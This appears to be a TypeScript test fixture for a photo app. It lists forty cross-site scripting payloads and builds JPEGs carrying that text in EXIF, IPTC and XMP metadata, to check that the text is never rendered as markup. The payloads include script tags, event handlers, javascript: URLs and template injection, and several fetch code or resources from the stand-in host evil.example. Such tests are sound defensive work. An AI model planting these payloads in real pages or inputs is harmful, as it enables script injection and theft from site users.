// Markup that would run if text were shown as anything but text. Each payload would call alert(),
// set `window.hacked`, or request something from evil.example.
import { textureJpeg } from '../support/jpegs.ts'
import {
  dublinCore,
  exifSegment,
  iptcSegment,
  text,
  withSegments,
  xmpSegment,
} from '../support/metadata-segments.ts'

/** Forty, each one line of at most 120 characters; some are short enough for names. */
export const payloads = [
  '<script>alert(1)</script>',
  '<script>hacked=2</script>',
  '</script><script>alert(3)</script>',
  '</title><script>alert(4)</script>',
  '<script src=//evil.example/5></script>',
  '<script type=module src=https://evil.example/6></script>',
  '<img src=x onerror=alert(7)>',
  '<img src=//evil.example/8>',
  '"><img src=x onerror=alert(9)>',
  "'><img src=x onerror=alert(10)>",
  '`><img src=x onerror=alert(11)>',
  '" onmouseover="alert(12)" autofocus onfocus="alert(12)',
  "' onmouseover='alert(13)' autofocus onfocus='alert(13)",
  'x onerror=alert(14)',
  '<svg onload=alert(15)>',
  '<svg><script>alert(16)</script></svg>',
  '<svg><animate onbegin=alert(17) attributeName=x dur=1s>',
  '<body onload=alert(18)>',
  '<iframe src="javascript:alert(19)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(20)</script>"></iframe>',
  '<iframe src=//evil.example/21>',
  '<object data="javascript:alert(22)"></object>',
  '<embed src=//evil.example/23>',
  '<a href="javascript:alert(24)">a</a>',
  'javascript:alert(25)',
  'javascript://evil.example/%0aalert(26)',
  'data:text/html,<script>alert(27)</script>',
  '<base href=//evil.example/28/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/29">',
  '<link rel=stylesheet href=//evil.example/30>',
  '<style>@import "//evil.example/31"</style>',
  '<style>*{background:url(//evil.example/32)}</style>',
  '<form action=//evil.example/33><button autofocus>x</button></form>',
  '<video autoplay src=//evil.example/34 onerror=alert(34)>',
  '<details open ontoggle=alert(35)>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(36)>',
  '</textarea></noscript></style><script>alert(37)</script>',
  '<!--<script>alert(38)</script>',
  '&lt;script&gt;alert(39)&lt;/script&gt;&#60;img src=x onerror=alert(39)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload
  "{{constructor.constructor('alert(40)')()}}${alert(40)}<%= alert(40) %>$&$`]]>",
] as const

export const payloadsWithin = (max: number): string[] =>
  payloads.filter((payload) => payload.length <= max)

const xmlText = (text: string): string =>
  text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`)

let made = 0

/** A photo with this text in EXIF, IPTC and XMP. */
export async function photoWithText(words: string): Promise<Uint8Array> {
  const number = String(++made)
  return withSegments(
    await textureJpeg(),
    exifSegment({
      ifd0: [text(0x010f, words), text(0x0110, `${words} ${number}`), text(0x013b, words)],
      exif: [text(0xa433, words), text(0xa434, words), text(0xa431, number)],
    }),
    iptcSegment([
      [5, words],
      [25, words],
      [80, words],
      [116, words],
    ]),
    xmpSegment(dublinCore(xmlText(words), xmlText(words), [xmlText(words)])),
  )
}
